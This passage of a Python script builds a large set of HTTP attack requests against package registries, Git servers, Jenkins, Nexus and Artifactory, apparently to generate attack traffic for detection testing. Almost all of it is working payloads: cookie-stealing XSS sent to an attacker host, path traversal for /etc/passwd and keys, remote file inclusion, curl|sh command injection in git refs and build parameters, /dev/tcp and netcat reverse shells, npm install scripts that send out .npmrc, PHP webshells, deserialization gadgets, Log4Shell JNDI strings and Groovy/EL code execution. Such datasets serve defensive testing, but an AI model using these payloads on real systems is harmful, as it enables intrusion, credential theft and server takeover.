        json.dumps({"description": "Official nginx mirror\n\n<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"}), "application/json")
    req(C, "gitea-issue", "POST", "/api/v1/repos/acme/billing/issues/7/comments",
        ahs("gitea.example.dev", pick(BROWSERS), [["Authorization", "token " + rhex(40)]]),
        json.dumps({"body": "Same here <ImG sRc=x OnErRoR=prompt(document.cookie)>"}), "application/json")
    req(C, "gitlab-note", "POST", "/api/v4/projects/42/issues/9/notes", gl_headers(),
        json.dumps({"body": "Logs: <a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+\">view</a>"}), "application/json")
    req(C, "gitlab-note-b64", "POST", "/api/v4/projects/42/merge_requests/3/notes", gl_headers(),
        json.dumps({"body": "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))\">"}), "application/json")
    refl = [
        ("www.npmjs.com", "/search?q=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
        ("pypi.org", "/search/?q=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
        ("www.npmjs.com", "/package/%3Csvg%20onload%3Dalert(document.cookie)%3E"),
        ("nexus.example.net", "/service/rest/repository/browse/maven-releases/%22%3E%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E/"),
        ("crates.io", "/search?q=%22%3E%3Cbody%20onload%3Dalert(1)%3E"),
        ("packagist.org", "/?query=%27%3E%3Csvg%2Fonload%3Dconfirm%60xss%60%3E"),
    ]
    for host, p in refl:
        req(C, "reflected", "GET", p, ahs(host, pick(BROWSERS), accept="text/html,application/xhtml+xml"))
    meta = {"name": "tiny-bitset", "vers": "0.1.0", "deps": [], "features": {}, "authors": ["x"],
            "description": "<img src=1 onerror=alert(document.domain)>", "readme": "# tiny-bitset", "license": "MIT"}
    crate = make_tgz({"Cargo.toml": '[package]\nname = "tiny-bitset"\nversion = "0.1.0"\n'}, prefix="tiny-bitset-0.1.0/")
    mj = json.dumps(meta).encode()
    raw(C, "crate-description", "PUT", "/api/v1/crates/new", [["Host", "cargo.acme-internal.dev"], ["User-Agent", pick(CARGO_UAS)],
                                                               ["Authorization", "cio" + ralnum(32)]],
        struct.pack("<I", len(mj)) + mj + struct.pack("<I", len(crate)) + crate, "application/octet-stream")
    req(C, "gitea-repo-website", "PATCH", "/api/v1/repos/evil/tools",
        ahs("gitea.example.dev", "tea/0.9.2", [["Authorization", "token " + rhex(40)]]),
        json.dumps({"description": "tools", "website": "javascript:fetch('//cb.attacker-infra.example/'+document.cookie)"}), "application/json")
    req(C, "rubygems-profile", "PATCH", "/profile",
        ahs("rubygems.org", pick(BROWSERS), [["Cookie", "_rubygems_session=%s" % ralnum(60)]], accept="text/html"),
        form([("authenticity_token", ralnum(86)), ("user[handle]", "evil"), ("user[twitter_username]", "\"><script>alert(document.cookie)</script>")]),
        "application/x-www-form-urlencoded")
    req(C, "tf-module-desc", "POST", "/api/v2/organizations/acme/registry-modules",
        ahs("tf.acme-internal.dev", "go-tfe", [["Authorization", "Bearer " + ralnum(14) + ".atlasv1." + ralnum(60)]]),
        json.dumps({"data": {"type": "registry-modules", "attributes": {"name": "network", "provider": "aws",
                                                                          "description": "<svg onload=alert(document.domain)>"}}}), "application/vnd.api+json")
    req(C, "artifactory-property", "PUT",
        "/artifactory/api/storage/libs-release-local/com/acme/platform/billing-api/1.4.0?properties=qa.comment%3D%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        art_headers())
    req(C, "svg-upload", "PUT", "/artifactory/generic-local/badges/coverage.svg", art_headers(),
        '<svg xmlns="http://www.w3.org/2000/svg" width="104" height="20"><text x="5" y="14">coverage 97%</text>'
        '<script type="text/javascript">fetch("https://cb.attacker-infra.example/?c="+document.cookie)</script></svg>', "image/svg+xml")

# ===========================================================================
# ATTACKS: path traversal / local file inclusion
# ===========================================================================

def attack_lfi():
    C = "lfi"
    gets = [
        ("npm.acme-internal.dev", "/..%2f..%2f..%2f..%2fetc%2fpasswd", NPM_UAS[0]),
        ("npm.acme-internal.dev", "/lodash/-/..%2f..%2f..%2f..%2f..%2fetc%2fshadow", NPM_UAS[1]),
        ("verdaccio.build.example.net", "/@acme%2f..%2f..%2f..%2f..%2fverdaccio%2fconf%2fhtpasswd", NPM_UAS[3]),
        ("pypi.acme-internal.dev", "/simple/..%2F..%2F..%2F..%2Fetc%2Fpasswd/", PIP_UAS[2]),
        ("pypi.acme-internal.dev", "/packages/source/r/requests/..%2f..%2f..%2f..%2f..%2froot%2f.pypirc", PIP_UAS[0]),
        ("repo.acme-internal.dev", "/maven2/org/..%2f..%2f..%2f..%2f..%2fetc/passwd", MAVEN_UAS[0]),
        ("nexus.example.net", "/repository/maven-releases/com/acme/../../../../../../opt/sonatype/sonatype-work/nexus3/admin.password", MAVEN_UAS[2]),
        ("repo.acme-internal.dev", "/maven2/com/acme/%252e%252e/%252e%252e/%252e%252e/%252e%252e/etc/passwd", MAVEN_UAS[1]),
        ("goproxy.acme-internal.dev", "/github.com/acme/x/@v/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd.info", GO_UAS[0]),
        ("registry.acme-internal.dev", "/v2/library/alpine/blobs/sha256:..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", DOCKER_UAS[0]),
        ("registry.acme-internal.dev", "/v2/..%2f..%2f..%2f..%2fetc/manifests/passwd", DOCKER_UAS[4]),
        ("chartmuseum.acme-internal.dev", "/charts/..%2f..%2f..%2f..%2fetc%2fpasswd", HELM_UAS[0]),
        ("artifactory.acme.io", "/artifactory/api/storage/libs-release-local/..%252f..%252f..%252f..%252fetc%252fpasswd", "jfrog-cli-go/2.67.0"),
        ("nexus.example.net", "/%2F%2F%2F%2F%2F%2F%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd", "curl/8.5.0"),
        ("gitea.example.dev", "/api/v1/repos/acme/billing/raw/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd?ref=main", "tea/0.9.2"),
        ("gitlab.example.com", "/g1/g2/g3/g4/g5/g6/g7/g8/g9/g10/proj/uploads/%s/..%%2F..%%2F..%%2F..%%2F..%%2F..%%2F..%%2F..%%2F..%%2F..%%2F..%%2Fetc%%2Fpasswd" % rhex(32), "curl/8.5.0"),
        ("nuget.acme-internal.dev", "/v3-flatcontainer/..%5c..%5c..%5c..%5cwindows%5cwin.ini/index.json", NUGET_UAS[0]),
        ("pypi.acme-internal.dev", "/simple/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", PIP_UAS[3]),
        ("conda.acme-internal.dev", "/conda-forge/linux-64/..%2f..%2f..%2f..%2f..%2fproc%2fself%2fenviron", CONDA_UAS[0]),
        ("repo.packagist.com", "/dists/acme/billing-sdk/..%2f..%2f..%2f..%2f..%2fvar%2fwww%2f.env", COMPOSER_UAS[0]),
        ("artifactory.acme.io", "/artifactory/libs-release-local/com/acme/billing-api/1.4.0/billing-api-1.4.0.jar!/..%2f..%2f..%2f..%2f..%2fetc/passwd", "curl/8.5.0"),
        ("tf.acme-internal.dev", "/v1/providers/hashicorp/aws/5.70.0/download/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", TF_UAS[0]),
        ("crates.io", "/api/v1/crates/serde/1.0.0%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd/download", CARGO_UAS[0]),
        ("git.example.org", "/acme/billing.git/info/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", GIT_UAS[0]),
        ("gems.acme-internal.dev", "/gems/..%2f..%2f..%2fconfig%2fdatabase.yml", GEM_UAS[0]),
        ("registry.acme-internal.dev", "/v2/acme/%EF%BC%8E%EF%BC%8E/%EF%BC%8E%EF%BC%8E/%EF%BC%8E%EF%BC%8E/etc/passwd/tags/list", DOCKER_UAS[5]),
    ]
    for host, path, ua in gets:
        req(C, "path-traversal", "GET", path, ahs(host, ua))
    # traversal in the attachment (tarball) name of an npm publish: writes outside storage
    atk_npm_publish(C, "npm-attachment-name", name="acme-ui-icons", ver="1.0.7",
                    attach_name="../../../../../verdaccio/conf/htpasswd", host="verdaccio.build.example.net")
    # file: / link: dependency specs that make the registry/audit service read local files
    atk_npm_publish(C, "npm-file-dep", name="build-helpers-x", ver="0.2.0",
                    deps={"secrets": "file:../../../../../../etc/passwd", "keys": "file:/root/.ssh/id_rsa"})
    atk_npm_publish(C, "npm-link-dep", name="mono-tools-x", ver="0.0.4",
                    deps={"cfg": "link:../../../../../../home/node/.npmrc"})
    # PyPI upload with a traversal filename (stored under the file name)
    atk_pypi_upload(C, "pypi-upload-filename", {"name": "acme-billing-client", "version": "2.4.9"},
                    filename="../../../../../../etc/cron.d/pypi-sync")
    # Go module zip slip via Artifactory Go deploy
    z = make_zip({"github.com/evil/mod@v1.0.0/go.mod": "module github.com/evil/mod\n\ngo 1.22\n",
                  "github.com/evil/mod@v1.0.0/../../../../../../root/.ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s attacker\n" % ralnum(43),
                  "github.com/evil/mod@v1.0.0/mod.go": "package mod\n"})
    raw(C, "go-zip-slip", "PUT", "/artifactory/api/go/go-local/github.com/evil/mod/@v/v1.0.0.zip",
        [["Host", "artifactory.acme.io"], ["User-Agent", "jfrog-cli-go/2.67.0"], ["Authorization", "Bearer " + ralnum(64)]], z, "application/zip")
    # Nexus raw upload directory traversal
    bnd, body = multipart([("raw.directory", "/../../../../../../opt/sonatype/nexus/etc/jetty"),
                           ("raw.asset1", "jetty-https.xml", "text/xml", "<Configure id=\"Server\" class=\"org.eclipse.jetty.server.Server\"/>\n"),
                           ("raw.asset1.filename", "jetty-https.xml")])
    req(C, "nexus-raw-directory", "POST", "/service/rest/v1/components?repository=raw-hosted",
        nexus_headers(extra=[["Content-Type", "multipart/form-data; boundary=" + bnd]]), body)


# ===========================================================================
# ATTACKS: remote file inclusion (PHP-based registries: Satis/Packeton/Repman)
# ===========================================================================

def attack_rfi():
    C = "rfi"
    items = [
        ("satis.acme-internal.dev", "/index.php?page=http://203.0.113.66/shell.txt?"),
        ("satis.acme-internal.dev", "/index.php?template=https://cb.attacker-infra.example/x.php%00"),
        ("repman.acme-internal.dev", "/?lang=http://198.51.100.23/lang/en.txt%3F"),
        ("packages.acme-internal.dev", "/download.php?file=ftp://198.51.100.23/pub/s.php"),
        ("satis.acme-internal.dev", "/index.php?include=%5C%5C198.51.100.9%5Cshare%5Csh.php"),
        ("satis.acme-internal.dev", "/index.php?mod=hTtP://x7k2.oast.example/c99.txt%3F"),
        ("packages.acme-internal.dev", "/view.php?path=http%3A%2F%2F203.0.113.5%2Fr57.txt%3F"),
        ("repo.acme-internal.dev", "/repo/packages.php?lib=https://raw.githubusercontent.com/attacker/p/main/shell.php%3F"),
        ("satis.acme-internal.dev", "/index.php?inc=//cb.attacker-infra.example/shell.txt"),
        ("packeton.acme-internal.dev", "/packages/list.php?tpl=https%253A%252F%252F203.0.113.66%252Fbackdoor.txt%253F"),
    ]
    for host, p in items:
        req(C, "php-include-param", "GET", p, ahs(host, pick(ATK_UAS), accept="text/html"))
    req(C, "php-include-form", "POST", "/admin/settings.php",
        ahs("satis.acme-internal.dev", pick(BROWSERS), [["Cookie", "PHPSESSID=" + ralnum(26, "abcdefghijklmnopqrstuvwxyz0123456789")]], accept="text/html"),
        form([("theme_file", "http://198.51.100.23/theme/header.txt?"), ("save", "1")]), "application/x-www-form-urlencoded")
    req(C, "php-include-cookie", "GET", "/index.php",
        ahs("repman.acme-internal.dev", pick(BROWSERS), [["Cookie", "lang=https://203.0.113.66/l.txt%3F; PHPSESSID=" + ralnum(26)]], accept="text/html"))


# ===========================================================================
# ATTACKS: OS command injection / RCE via git refs, scripts, script consoles
# ===========================================================================

def attack_rce():
    C = "rce"
    agent = "agent=git/2.46.1\n"
    for ref in ["refs/heads/$(curl -s http://203.0.113.7/x.sh|sh)", "refs/heads/`id>/tmp/pwned`",
                "refs/heads/main;bash${IFS}-c${IFS}'curl${IFS}-s${IFS}cb.attacker-infra.example|sh'"]:
        cmds = pkt("%s %s %s\0 report-status side-band-64k %s" % ("0" * 40, rhex(40), ref, agent)) + b"0000"
        raw(C, "git-ref-name", "POST", "/acme/billing.git/git-receive-pack",
            git_headers("git.example.org", extra=[["Content-Type", "application/x-git-receive-pack-request"],
                                                  ["Accept", "application/x-git-receive-pack-result"]]),
            cmds + git_pack(["x"]))
    p = gh_push_payload("acme/billing", "main")
    p["ref"] = "refs/heads/main;curl http://198.51.100.4:8000/$(whoami|base64)"
    body = json.dumps(p)
    req(C, "webhook-ref", "POST", "/github-webhook/", gh_hook_headers("push", body, "jenkins.acme-internal.dev"), body, "application/json")
    gl = {"object_kind": "push", "ref": "refs/heads/feature/$(wget -qO- http://203.0.113.7/a|sh)", "before": rhex(40), "after": rhex(40),
          "project": {"path_with_namespace": "acme/billing"}, "commits": []}
    req(C, "webhook-ref", "POST", "/project/billing",
        [["Host", "jenkins.acme-internal.dev"], ["User-Agent", "GitLab/17.5.1"], ["X-Gitlab-Event", "Push Hook"], ["X-Gitlab-Token", ralnum(32)]],
        json.dumps(gl), "application/json")
    ghdr = [["Authorization", "token " + rhex(40)]]
    req(C, "gitea-migrate-upload-pack", "POST", "/api/v1/repos/migrate", ahs("gitea.example.dev", "tea/0.9.2", ghdr),
        json.dumps({"clone_addr": "--upload-pack=touch /tmp/pwned", "repo_name": "x", "repo_owner": "evil", "service": "git"}), "application/json")
    req(C, "gitea-migrate-ext", "POST", "/api/v1/repos/migrate", ahs("gitea.example.dev", "tea/0.9.2", ghdr),
        json.dumps({"clone_addr": "ext::sh -c curl% http://203.0.113.7/s|sh", "repo_name": "y", "repo_owner": "evil", "service": "git"}), "application/json")
    req(C, "gitlab-import-ssh", "POST", "/api/v4/projects", gl_headers(),
        json.dumps({"name": "imported", "import_url": "ssh://-oProxyCommand=curl${IFS}cb.attacker-infra.example|sh/acme/x.git"}), "application/json")
    req(C, "gitea-branch", "POST", "/api/v1/repos/acme/billing/branches", ahs("gitea.example.dev", "tea/0.9.2", ghdr),
        json.dumps({"new_branch_name": "x;curl -s http://203.0.113.7/b|sh", "old_branch_name": "main"}), "application/json")
    req(C, "gitea-git-hook", "PATCH", "/api/v1/repos/acme/billing/hooks/git/pre-receive", ahs("gitea.example.dev", "tea/0.9.2", ghdr),
        json.dumps({"content": "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"}), "application/json")
    # lifecycle scripts sent to a build/verification service
    atk_npm_publish(C, "npm-script-revshell", name="eslint-config-acme", ver="8.0.1",
                    scripts={"postinstall": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}, host="npm.acme-internal.dev")
    atk_npm_publish(C, "npm-script-exfil", name="@acme/build-tools", ver="2.0.9",
                    scripts={"preinstall": "node -e \"require('child_process').exec('curl -d @$HOME/.npmrc http://cb.attacker-infra.example/')\""})
    atk_npm_publish(C, "npm-script-b64", name="lodash-utils-pro", ver="1.0.0",
                    scripts={"install": "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveHxzaA== | base64 -d | sh"})
    req(C, "nexus-script", "POST", "/service/rest/v1/script", nexus_headers(),
        json.dumps({"name": "maint", "type": "groovy",
                    "content": "def proc = ['bash','-c','cat /etc/passwd; id'].execute(); proc.waitFor(); return proc.text"}), "application/json")
    req(C, "nexus-script-run", "POST", "/service/rest/v1/script/maint/run", nexus_headers(),
        "\"new ProcessBuilder('sh','-c','curl http://203.0.113.7/n.sh|sh').start()\"", "text/plain")
    jk = [("/scriptText", "println 'whoami'.execute().text"),
          ("/script", "Runtime.getRuntime().exec(['bash','-c','bash -i >& /dev/tcp/203.0.113.9/9001 0>&1'] as String[])"),
          ("/computer/(master)/scriptText", "def sout = new StringBuffer(); 'cat /var/jenkins_home/secrets/master.key'.execute().consumeProcessOutput(sout, sout); println sout")]
    for path, script in jk:
        req(C, "jenkins-groovy", "POST", path, ahs("jenkins.acme-internal.dev", pick(ATK_UAS), [["Jenkins-Crumb", rhex(64)]]),
            form([("script", script), ("Submit", "Run")]), "application/x-www-form-urlencoded")
    req(C, "couchdb-query-server", "PUT", "/_node/_local/_config/query_servers/cmd",
        ahs("couch.npm.acme-internal.dev:5984", "curl/8.5.0", [["Authorization", "Basic " + b64("oops:oops")]]),
        json.dumps("/bin/bash -c 'id > /tmp/couch_rce; curl http://203.0.113.7/c|sh'"), "application/json")
    jparams = [("/job/publish-npm/buildWithParameters?BRANCH=main%3Bcat%20/etc/passwd&token=" + ralnum(16), None),
               ("/job/nuget-release/buildWithParameters?VERSION=1.0%26powershell%20-nop%20-w%20hidden%20-enc%20SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", None),
               ("/job/docker-build/buildWithParameters?TAG=latest%7C%7Cnc%20-e%20/bin/sh%20203.0.113.7%204444", None)]
    for path, _ in jparams:
        req(C, "ci-build-param", "POST", path, ahs("jenkins.acme-internal.dev", "curl/8.5.0", [["Authorization", "Basic " + b64("ci:" + ralnum(34))]]))
    req(C, "archive-format", "GET", "/api/v1/repos/acme/billing/archive/main.zip?format=zip;curl${IFS}cb.attacker-infra.example|sh",
        ahs("gitea.example.dev"))
    req(C, "workflow-dispatch", "POST", "/repos/acme/ui-kit/actions/workflows/release.yml/dispatches", gh_api_headers(ua="curl/8.5.0"),
        json.dumps({"ref": "main", "inputs": {"version": "1.0.0\"; curl -sL http://203.0.113.7/p | bash; echo \""}}), "application/json")
    req(C, "drone-build", "POST", "/api/repos/acme/billing/builds?branch=main&commit=$(id)&DEPLOY_TO=prod%60uname%20-a%60",
        ahs("drone.example.dev", "curl/8.5.0", [["Authorization", "Bearer " + ralnum(32)]]))
    req(C, "conda-build-script", "POST", "/api/build",
        ahs("conda-build.acme-internal.dev", "python-requests/2.31.0", [["Authorization", "token " + ralnum(40)]]),
        json.dumps({"package": "acme-billing", "version": "2.4.2", "build_script": "python -m pip install . ; nc -e /bin/sh 203.0.113.9 4444"}),
        "application/json")
    cj = {"name": "evil/pkg", "type": "library", "scripts": {"post-install-cmd": ["php -r \"system('curl http://203.0.113.7/s|sh');\""],
                                                             "pre-autoload-dump": "wget -qO- http://203.0.113.7/k | /bin/sh"}}
    req(C, "composer-scripts", "POST", "/api/packages/evil%2Fpkg/build",
        ahs("packeton.acme-internal.dev", "curl/8.5.0", [["Authorization", "Bearer " + ralnum(40)]]), json.dumps(cj), "application/json")
    req(C, "gradle-init", "POST", "/api/v1/builds", ahs("gradle-cache.acme-internal.dev", MAVEN_UAS[2], [["Authorization", "Bearer " + ralnum(40)]]),
        json.dumps({"project": "billing", "initScript": "allprojects { ['sh','-c','curl http://203.0.113.7/g|sh'].execute() }"}),
        "application/json")

# ===========================================================================
# ATTACKS: PHP (webshell uploads, wrappers, php-cgi, object injection)
# ===========================================================================

def attack_php():
    C = "php"
    bnd, body = multipart([("raw.directory", "/public/assets"), ("raw.asset1", "shell.php", "application/x-php", "<?php system($_GET['c']); ?>\n"),
                           ("raw.asset1.filename", "shell.php")])
    req(C, "webshell-nexus-raw", "POST", "/service/rest/v1/components?repository=raw-hosted",
        nexus_headers(extra=[["Content-Type", "multipart/form-data; boundary=" + bnd]]), body)
    req(C, "webshell-artifactory", "PUT", "/artifactory/generic-local/public/x.php", art_headers(),
        "<?php @eval($_POST['k']); ?>", "application/octet-stream")
    bnd, body = multipart([("raw.directory", "/avatars"), ("raw.asset1", "avatar.php.jpg", "image/jpeg", "GIF89a<?php system($_REQUEST[0]); ?>"),
                           ("raw.asset1.filename", "avatar.php.jpg")])
    req(C, "webshell-polyglot", "POST", "/service/rest/v1/components?repository=raw-hosted",
        nexus_headers(extra=[["Content-Type", "multipart/form-data; boundary=" + bnd]]), body)
    gadget = ('O:31:"GuzzleHttp\\Cookie\\FileCookieJar":4:{s:36:"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies";a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:'
              '{s:33:"\x00GuzzleHttp\\Cookie\\SetCookie\x00data";a:3:{s:7:"Expires";i:1;s:7:"Discard";b:0;s:5:"Value";s:30:"<?php system($_GET[\'c\']); ?>";}}}'
              's:39:"\x00GuzzleHttp\\Cookie\\CookieJar\x00strictMode";N;s:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:23:"/var/www/html/public/x.php";'
              's:52:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies";b:1;}')
    req(C, "object-injection", "POST", "/packages/acme/billing-sdk/edit",
        ahs("packeton.acme-internal.dev", pick(BROWSERS), [["Cookie", "PHPSESSID=" + ralnum(26)]], accept="text/html"),
        form([("form[state]", gadget), ("form[_token]", ralnum(43))]), "application/x-www-form-urlencoded")
    req(C, "object-injection-json", "POST", "/api/webhook/gitlab",
        ahs("packeton.acme-internal.dev", "GitLab/17.5.1", [["X-Gitlab-Event", "Push Hook"]]),
        json.dumps({"object_kind": "push", "project": {"web_url": "https://gitlab.example.com/acme/sdk"},
                    "payload": 'a:2:{i:7;O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":7:'
                               '{s:10:"\x00*\x00handler";r:3;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:{i:0;s:2:"id";s:5:"level";N;}}'
                               's:8:"\x00*\x00level";N;s:14:"\x00*\x00initialized";b:1;s:14:"\x00*\x00bufferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}i:7;i:7;}'}),
        "application/json")
    gets = [
        ("satis.acme-internal.dev", "/index.php?page=php://filter/convert.base64-encode/resource=../config/parameters.yml"),
        ("satis.acme-internal.dev", "/index.php?file=phar:///var/www/satis/web/uploads/logo.jpg/test.txt"),
        ("repman.acme-internal.dev", "/index.php?page=expect://id"),
        ("satis.acme-internal.dev", "/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8%2B&cmd=id"),
    ]
    for host, p in gets:
        req(C, "wrapper", "GET", p, ahs(host, accept="text/html"))
    req(C, "php-input", "POST", "/index.php?page=php://input", ahs("satis.acme-internal.dev"), "<?php system('cat /etc/passwd'); ?>",
        "application/x-www-form-urlencoded")
    req(C, "php-cgi-1823", "POST", "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input",
        ahs("packages.acme-internal.dev"), "<?php echo shell_exec('id'); die(); ?>", "application/x-www-form-urlencoded")
    req(C, "php-cgi-4577", "POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input",
        ahs("nuget.acme-internal.dev"), "<?php echo shell_exec('whoami'); ?>", "application/x-www-form-urlencoded")
    req(C, "phpunit-eval-stdin", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        ahs("packages.acme-internal.dev", "python-requests/2.31.0"), "<?php echo md5('phpunit_rce'); system('id'); ?>", "text/plain")
    req(C, "ignition", "POST", "/_ignition/execute-solution", ahs("repman.acme-internal.dev", accept="application/json"),
        json.dumps({"solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
                    "parameters": {"variableName": "username",
                                   "viewFile": "phar:///var/www/repman/storage/logs/laravel.log"}}), "application/json")
    req(C, "composer-eval", "PUT", "/artifactory/api/composer/php-local/evil/pkg/composer.json", art_headers(),
        json.dumps({"name": "evil/pkg", "scripts": {"post-autoload-dump": "php -r \"eval(base64_decode('c3lzdGVtKCdjdXJsIGh0dHA6Ly8yMDMuMC4xMTMuNy9zfHNoJyk7'));\""}}),
        "application/json")
    req(C, "code-param", "GET", "/search.json?q=%3C%3Fphp%20passthru(%24_GET%5B%27x%27%5D)%3B%3F%3E&x=id",
        ahs("packagist.acme-internal.dev", accept="application/json"))


# ===========================================================================
# ATTACKS: Java (Log4Shell, deserialization, Nexus EL, Spring, XStream)
# ===========================================================================

def java_serialized_blob():
    """A CommonsCollections-style serialized object stream (structure and
    class names as produced by ysoserial; not a working gadget)."""
    def utf(s):
        return struct.pack(">H", len(s)) + s.encode()
    b = b"\xac\xed\x00\x05" + b"sr" + utf("sun.reflect.annotation.AnnotationInvocationHandler") + rbytes(8) + b"\x02\x00\x02L"
    b += utf("memberValues") + b"t" + utf("Ljava/util/Map;") + b"L" + utf("type") + b"t" + utf("Ljava/lang/Class;") + b"xp"
    b += b"sr" + utf("org.apache.commons.collections.map.LazyMap") + rbytes(8) + b"\x02\x00\x01L" + utf("factory")
    b += b"t" + utf("Lorg/apache/commons/collections/Transformer;") + b"xp"
    b += b"sr" + utf("org.apache.commons.collections.functors.ChainedTransformer") + rbytes(8) + b"\x02\x00\x01[" + utf("iTransformers")
    b += b"sr" + utf("org.apache.commons.collections.functors.InvokerTransformer") + rbytes(8) + b"\x02\x00\x03["
    b += utf("iArgs") + b"t" + utf("[Ljava/lang/Object;") + b"L" + utf("iMethodName") + b"t" + utf("Ljava/lang/String;")
    b += b"t" + utf("getRuntime") + b"t" + utf("exec") + b"t" + utf("java.lang.Runtime") + b"t" + utf("curl http://203.0.113.7/j|sh") + b"x"
    return b


def attack_java():
    C = "java"
    oob = pick(ATK_HOST_OOB)
    l4s = [
        ("repo.acme-internal.dev", "/maven2/org/apache/commons/commons-lang3/3.17.0/commons-lang3-3.17.0.pom", [["User-Agent", "${jndi:ldap://203.0.113.50:1389/Exploit}"]]),
        ("nexus.example.net", "/service/rest/v1/status", [["User-Agent", "curl/8.5.0"], ["X-Api-Version", "${jndi:ldap://%s/a}" % oob]]),
        ("artifactory.acme.io", "/artifactory/api/system/ping", [["User-Agent", "${${lower:j}${lower:n}${lower:d}i:${lower:r}mi://198.51.100.23:1099/obj}"]]),
        ("nexus.example.net", "/repository/npm-group/react", [["User-Agent", NPM_UAS[0]], ["X-Forwarded-For", "${${::-j}${::-n}${::-d}${::-i}:ldap://x7k2.oast.example/o}"]]),
        ("artifactory.acme.io", "/artifactory/libs-release/com/acme/x/maven-metadata.xml", [["User-Agent", MAVEN_UAS[0]], ["Referer", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x7k2.oast.example}"]]),
        ("repo.acme-internal.dev", "/maven2/com/google/guava/guava/maven-metadata.xml", [["User-Agent", "Gradle/8.10.2 ${jndi:ldap${::-:}//cb.attacker-infra.example/g}"]]),
        ("nexus.example.net", "/service/rest/v1/search?name=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.50%3A1389%2Fsearch%7D", [["User-Agent", "python-requests/2.31.0"]]),
        ("jenkins.acme-internal.dev", "/login", [["User-Agent", pick(BROWSERS)], ["Cookie", "JSESSIONID.%s=${jndi:ldap://%s/c}" % (rhex(8), oob)]]),
        ("artifactory.acme.io", "/artifactory/api/npm/npm-remote/lodash", [["User-Agent", NPM_UAS[1]], ["Authorization", "Bearer ${jndi:ldap://203.0.113.50/auth}"]]),
        ("nexus.example.net", "/repository/pypi-proxy/simple/requests/", [["User-Agent", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.50/p}"]]),
    ]
    for host, p, extra in l4s:
        req(C, "log4shell", "GET", p, [["Host", host]] + extra + [["Accept", "*/*"]])
    pom = make_pom("com.evil", "l4s", "1.0.0").replace("<description>", "<description>${jndi:ldap://203.0.113.50:1389/pom}")
    req(C, "log4shell-pom", "PUT", "/repository/maven-releases/com/evil/l4s/1.0.0/l4s-1.0.0.pom", mvn_headers("nexus.example.net", auth=True), pom, "text/xml")
    atk_npm_publish(C, "log4shell-npm", name="java-bridge-x", ver="1.0.0", desc="${jndi:rmi://198.51.100.23:1099/npm}", host="nexus.example.net")
    # deserialization
    raw(C, "deser-binary", "POST", "/invoker/readonly", [["Host", "nexus.example.net"], ["User-Agent", "Java/1.8.0_181"]],
        java_serialized_blob(), "application/x-java-serialized-object")
    raw(C, "deser-binary", "POST", "/cli?remoting=true", [["Host", "jenkins.acme-internal.dev"], ["User-Agent", "Java/11.0.2"], ["Session", uuid4()], ["Side", "upload"]],
        java_serialized_blob(), "application/octet-stream")
    req(C, "deser-b64", "POST", "/service/extdirect", nexus_headers(),
        json.dumps({"action": "rapture_Session", "method": "restore", "type": "rpc", "tid": 3,
                    "data": [b64(java_serialized_blob())]}), "application/json")
    # Nexus EL injection CVEs
    req(C, "nexus-el-roles", "POST", "/service/rest/beta/security/roles", nexus_headers(),
        json.dumps({"id": "pwn", "name": "pwn", "description": "x", "privileges": ["nx-all"],
                    "roles": ["$\\A{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('touch /tmp/pwned')}"]}), "application/json")
    req(C, "nexus-el-group", "POST", "/service/rest/beta/repositories/go/group", nexus_headers(),
        json.dumps({"name": "internal", "online": True, "storage": {"blobStoreName": "default", "strictContentTypeValidation": True},
                    "group": {"memberNames": ["$\\c{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('curl http://203.0.113.7/n|sh')}"]}}),
        "application/json")
    req(C, "nexus-jexl", "POST", "/service/extdirect", nexus_headers(),
        json.dumps({"action": "coreui_Component", "method": "previewAssets", "type": "rpc", "tid": 8,
                    "data": [{"page": 1, "start": 0, "limit": 50, "sort": [{"property": "name", "direction": "ASC"}],
                              "filter": [{"property": "repositoryName", "value": "*"},
                                         {"property": "expression", "value": "''.class.forName('java.lang.Runtime').getRuntime().exec('id')"},
                                         {"property": "type", "value": "jexl"}]}]}), "application/json")
